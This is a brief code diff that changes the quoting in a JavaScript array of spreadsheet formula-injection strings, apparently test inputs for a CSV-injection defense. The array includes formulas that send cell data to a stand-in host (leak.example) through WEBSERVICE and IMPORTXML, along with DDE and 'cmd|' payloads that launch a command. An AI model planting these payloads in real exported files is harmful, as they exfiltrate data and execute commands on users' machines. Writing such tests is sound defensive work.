@@ -13,8 +13,8 @@ const bodies = [
   'WEBSERVICE("http://leak.example/"&B2)',
   'IMPORTXML(CONCAT("http://leak.example/",A1),"//a")',
   'DDE("cmd","/C calc","x")',
-  'SUM(1+1)*cmd|\' /C calc\'!A0',
-  '2+5+cmd|\' /C calc\'!A0',
+  "SUM(1+1)*cmd|' /C calc'!A0",
+  "2+5+cmd|' /C calc'!A0",
   'A1&""',
   '"";""',
 ]
